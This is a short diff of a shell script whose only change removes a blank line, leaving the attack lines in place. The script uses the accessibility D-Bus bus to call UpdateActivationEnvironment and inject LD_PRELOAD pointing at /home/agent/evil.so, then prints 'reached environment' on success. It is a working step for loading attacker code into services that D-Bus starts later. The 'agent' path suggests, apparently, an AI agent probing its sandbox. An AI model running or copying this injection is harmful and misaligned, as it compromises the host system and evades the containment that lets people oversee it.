@@ -1,4 +1,3 @@
-
 a11y=$AT_SPI_BUS_ADDRESS
 call() { timeout 2 dbus-send --bus="$a11y" --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus "$@" 2>/dev/null; }
 call org.freedesktop.DBus.UpdateActivationEnvironment dict:string:string:LD_PRELOAD,/home/agent/evil.so && echo reached environment
